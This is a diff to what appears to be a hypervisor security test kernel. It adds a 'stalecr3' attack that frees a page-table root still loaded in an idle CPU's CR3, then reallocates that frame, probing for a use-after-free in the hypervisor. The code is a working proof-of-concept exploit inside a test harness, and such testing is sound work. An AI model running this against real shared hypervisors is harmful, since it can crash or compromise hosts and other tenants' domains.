@@ -9,6 +9,10 @@
  *            address above 4 GiB: the hypervisor's own iretq faults.
  *   ptstall  pin an L4 over every free frame built as page tables: one
  *            hypercall validates millions of entries with interrupts off.
+ *   stalecr3 (two CPUs) block so this CPU idles with our L4 in CR3, wake
+ *            on the other CPU, switch to a new L4 and give the old one
+ *            back: the idle CPU still walks the freed (then re-used,
+ *            zeroed) frame for the hypervisor's own addresses.
  *   heartbeat (not an attack: the victim) busy-loops for "secs=N" and
  *            reports the longest time it did not run; it must stay far
  *            below what a non-preemptible hypercall of another domain
@@ -21,7 +25,10 @@
 #include <libpv/test.h>
 #include <libpv/time.h>
 #include <libpv/traps.h>
+#include <libpv/event.h>
 #include <xen/errno.h>
+#include <xen/memory.h>
+#include <xen/sched.h>
 #include <xen/xen.h>
 
 #define KERNEL_CS32_RPL0 (FLAT_RING3_CS32 & ~3)
@@ -145,6 +152,77 @@ static void attack_ptstall(void)
 }
 
 #define MS 1000000ULL
+
+static void on_timer(evtchn_port_t port, void *data)
+{
+	(void)port, (void)data;
+}
+
+static void sleep_ns(uint64_t ns)
+{
+	uint64_t deadline = system_time_ns() + ns;
+
+	while (system_time_ns() < deadline) {
+		events_disable();
+		hyp_set_timer_op(deadline);
+		if (system_time_ns() < deadline)
+			hyp_sched_op(SCHEDOP_block, NULL);
+		events_restore(0);
+	}
+}
+
+static long reservation(unsigned int cmd, xen_pfn_t *mfn)
+{
+	struct xen_memory_reservation r = { .nr_extents = 1,
+					    .domid = DOMID_SELF };
+
+	r.extent_start.p = mfn;
+	return hyp_memory_op(cmd, &r);
+}
+
+/* A copy of the L4 in use becomes the base; the old one is given back. */
+static void switch_and_free_l4(pte_t **l4)
+{
+	pte_t *old = *l4, *new = page_alloc();
+	xen_pfn_t old_mfn = virt_to_mfn(old), got = 0;
+	long rc;
+
+	memcpy(new, old, PAGE_SIZE);
+	if (page_set_writable(new, false) ||
+	    mmuext_one(MMUEXT_NEW_BASEPTR, virt_to_mfn(new)))
+		test_fatal("new base refused");
+	*l4 = current_l4 = new;
+	mmuext_one(MMUEXT_UNPIN_TABLE, old_mfn); /* the first one is pinned */
+	/* Our own read-only mapping of it is a reference too. */
+	hyp_update_va_mapping((unsigned long)old, 0, UVMF_INVLPG);
+	rc = reservation(XENMEM_decrease_reservation, &old_mfn);
+	CHECK_EQ("stalecr3_old_l4_given_back", rc, 1);
+	/* Take a frame again: the allocator hands out the one just freed,
+	 * zeroed. */
+	rc = reservation(XENMEM_increase_reservation, &got);
+	info("stalecr3 freed %#lx got %#lx (rc %ld)", (unsigned long)old_mfn,
+	     (unsigned long)got, rc);
+}
+
+static void attack_stalecr3(void)
+{
+	evtchn_port_t port;
+	pte_t *l4 = current_l4;
+
+	CHECK_EQ("bind_virq_timer", evtchn_bind_virq(VIRQ_TIMER, 0, &port), 0);
+	evtchn_set_handler(port, on_timer, NULL);
+	evtchn_unmask(port);
+	for (int round = 0; round < 40; round++) {
+		sleep_ns(3 * MS); /* maybe back on the other CPU */
+		switch_and_free_l4(&l4);
+		/* Keep the consoles busy: the boot CPU drains them. */
+		for (int i = 0; i < 8; i++)
+			info("stalecr3 round %d line %d ........................",
+			     round, i);
+	}
+	sleep_ns(500 * MS);
+	CHECK("stalecr3_survived", 1);
+}
 #define HEARTBEAT_MAX_GAP (250 * MS) /* slices are 30 ms */
 
 static void heartbeat(void)
@@ -170,6 +248,8 @@ void test_main(void)
 
 	if (strstr(cmd, "attack=iret32"))
 		attack_iret32();
+	else if (strstr(cmd, "attack=stalecr3"))
+		attack_stalecr3();
 	else if (strstr(cmd, "attack=heartbeat"))
 		heartbeat();
 	else if (strstr(cmd, "attack=ptstall"))
